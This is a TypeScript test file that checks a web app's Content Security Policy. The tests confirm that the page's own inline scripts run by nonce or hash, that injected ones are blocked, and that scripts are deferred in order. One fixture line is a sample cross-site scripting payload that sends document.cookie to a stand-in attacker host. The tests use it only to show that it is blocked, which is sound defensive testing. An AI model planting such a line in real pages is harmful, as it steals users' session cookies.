/** A page's own scripts are named to the browser, by nonce or by hash; a script that got in otherwise is not. */
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { DEFERRED_TYPE, deferScripts, trustByHash } from './deferred-scripts.server';
import { COLOUR_MODE } from '../shell/colour-mode';
import { DEFERRED_SCRIPT_LOADER } from './deferred-script-loader';
import { contentSecurityPolicy, sha256 } from '../security/policy.server';

const NONCE = 'q83vASNFZ4mrze8BI0VniQ==';
const MODULE = 'import * as route0 from "/assets/root.js";import("/assets/entry.js");';
const DATA = 'window.__remixContext.streamController.enqueue("data");';
const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';

/** As Remix renders it. */
const page = [
  `<html><head><script nonce="${NONCE}">${COLOUR_MODE}</script>`,
  '<script type="application/ld+json">{"@type":"NGO"}</script></head><body>',
  `<script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script>`,
  '<link rel="modulepreload" href="/assets/root.js"/><link rel="modulepreload" href="/assets/home.js"/>',
  `<script nonce="${NONCE}">window.__remixContext = {};</script>`,
  `<script nonce="${NONCE}" type="module" async="">${MODULE}</script>`,
  `<script nonce="${NONCE}">${DEFERRED_SCRIPT_LOADER}</script></body></html>`,
  `<!--$--><script nonce="${NONCE}">${DATA}</script><!--$--><!--/$--><!--/$-->`,
].join('');

/** What a browser does with `script-src`: of each inline script, whether it runs. */
function runs(html: string, policy: string) {
  const [, sources = ''] = /script-src ([^;]*)/.exec(policy) ?? [];
  expect(sources).not.toMatch(/unsafe|\*/);
  return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter(([, attributes = '']) => !attributes.includes('ld+json'))
    .map(([, attributes = '', text = '']) => {
      const nonce = /nonce="([^"]*)"/.exec(attributes)?.[1];
      const hash = createHash('sha256').update(text).digest('base64');
      const allowed =
        (nonce !== undefined && sources.includes(`'nonce-${nonce}'`)) ||
        sources.includes(`'sha256-${hash}'`);
      return { text, allowed };
    });
}

describe.each([
  ['nonce', { html: page, trust: { kind: 'nonce', nonce: NONCE } as const }],
  ['hash', trustByHash(page, NONCE)],
])('by %s', (_, { html, trust }) => {
  const policy = contentSecurityPolicy(trust, sha256('body{}'));

  test('every script of the page runs, and no injected one', () => {
    const scripts = runs(html, policy);
    expect(scripts).toHaveLength(7);
    for (const { text, allowed } of scripts) expect(allowed, text).toBe(text !== INJECTED);
  });

  test('the late module runs as its own text', () => {
    // deferred-script-loader.ts copies the text of the inert script, which the nonce or the hash allows.
    expect(runs(deferScripts(html), policy).find(({ text }) => text === MODULE)?.allowed).toBe(
      true,
    );
  });
});

test('a kept page has no trace of the nonce that rendered it', () => {
  const { html } = trustByHash(page, NONCE);
  expect(html).not.toContain(NONCE);
  expect(html).toContain('nonce="guessed"');
});

describe('deferred scripts', () => {
  const deferred = deferScripts(page);

  test('the module script is a data block that lists its preloads', () => {
    expect(deferred).not.toContain('type="module"');
    expect(deferred).not.toContain('<link');
    expect(deferred).not.toContain('async');
    expect(deferred).toContain(
      `<script nonce="${NONCE}" ${DEFERRED_TYPE} data-preload="/assets/root.js /assets/home.js">${MODULE}</script>`,
    );
  });

  test('the page ends with </html>, and keeps the order of its scripts', () => {
    expect(deferred).toMatch(/<\/script><\/body><\/html>$/);
    expect(deferred).not.toContain('<!--');
    const texts = (html: string) =>
      [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, text]) => text);
    expect(texts(deferred)).toEqual(texts(page));
  });

  test('a page without scripts loses only what React streams after </html>', () => {
    const light = '<html><body><p>light</p></body></html>';
    expect(deferScripts(`${light}<!--$--><!--/$-->`)).toBe(light);
  });
});

test('the small scripts cannot end their own element', () => {
  for (const script of [COLOUR_MODE, DEFERRED_SCRIPT_LOADER])
    expect(script).not.toMatch(/<\/|<!--/);
});

test('a page is nobody’s frame, takes nothing from elsewhere, and sends forms only here', () => {
  const policy = contentSecurityPolicy({ kind: 'nonce', nonce: NONCE }, sha256('x'));
  for (const directive of [
    `default-src 'none'`,
    `base-uri 'none'`,
    `frame-ancestors 'none'`,
    `form-action 'self'`,
    `img-src 'self' data:`,
  ])
    expect(policy).toContain(directive);
  expect(policy).not.toContain('unsafe');
});
